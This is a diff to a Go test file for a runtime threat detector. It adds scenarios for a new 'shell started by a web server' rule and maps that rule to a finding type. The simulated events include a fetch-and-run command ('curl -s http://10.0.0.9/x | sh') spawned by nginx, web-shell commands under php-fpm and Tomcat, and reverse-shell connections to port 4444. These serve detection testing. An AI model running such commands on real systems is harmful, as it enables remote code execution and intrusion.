@@ -66,6 +66,7 @@ func scenarios() []scenario {
 		ttylessSh  = "Interactive shell on pipes"
 		loopShell  = "Commands run by a one-line program that connected out"
 		ptyShell   = "Shell on a terminal served by a program that connected out"
+		webSrvSh   = "Shell started by a web server"
 		pipeShell  = "Shell piped to a network client"
 		newBin     = "New binary executed in a container"
 		upperBin   = "Binary from the container's writable layer executed"
@@ -292,6 +293,17 @@ func scenarios() []scenario {
 			evs(connectEv(ptyRelay, "10.0.0.9", 4444), execEv(withTTY(childOf(proc("bash", "/usr/bin/bash", "bash", "-i"), ptyRelay)), stdio("tty", "tty", "tty"), after(time.Second))), []int{0, 1}},
 		scenario{"a relay's shell without a terminal is not this rule's (it is the pipe rule's)", ptyShell, false,
 			evs(connectEv(ptyRelay, "10.0.0.9", 4444), execEv(childOf(proc("bash", "/usr/bin/bash", "bash", "-i"), ptyRelay), stdio("pipe", "pipe", "pipe"), after(time.Second))), nil},
+		scenario{"a PHP web shell running id through sh -c", webSrvSh, true,
+			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "id"), proc("php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")), inCtr)), nil},
+		scenario{"nginx starting a shell", webSrvSh, true,
+			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "curl -s http://10.0.0.9/x | sh"), proc("nginx", "/usr/sbin/nginx", "nginx: worker process")))), nil},
+		scenario{"Tomcat starting bash", webSrvSh, true,
+			evs(execEv(childOf(proc("bash", "/usr/bin/bash", "bash", "-c", "whoami"),
+				proc("java", "/opt/java/openjdk/bin/java", "java", "-classpath", "/usr/local/tomcat/bin/bootstrap.jar", "org.apache.catalina.startup.Bootstrap", "start")))), nil},
+		scenario{"PHP's mail() running sendmail through sh -c is not", webSrvSh, false,
+			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "/usr/sbin/sendmail -t -i"), proc("php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")), inCtr)), nil},
+		scenario{"a program named nginx elsewhere is not a web server", webSrvSh, false,
+			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "id"), proc("nginx", "/opt/app/nginx", "nginx")))), nil},
 		scenario{"a shell with no earlier connection is a partial sequence", fedShell, false,
 			evs(execEv(childOf(proc("sh", "/bin/dash", "sh"), proc("make", "/usr/bin/make", "make")), stdio("pipe", "pipe", "pipe"))), nil},
 	)
@@ -1068,6 +1080,7 @@ var wantType = map[string]string{
 	"Interactive shell on pipes":                                  "Execution:Runtime/ReverseShell",
 	"Commands run by a one-line program that connected out":       "Execution:Runtime/ReverseShell",
 	"Shell on a terminal served by a program that connected out":  "Execution:Runtime/ReverseShell",
+	"Shell started by a web server":                               "Execution:Runtime/SuspiciousShellCreated",
 	"Shell fed by a program that connected out":                   "Execution:Runtime/ReverseShell",
 	"Shell piped to a network client":                             "Execution:Runtime/ReverseShell",
 	"New binary executed in a container":                          "Execution:Runtime/NewBinaryExecuted",
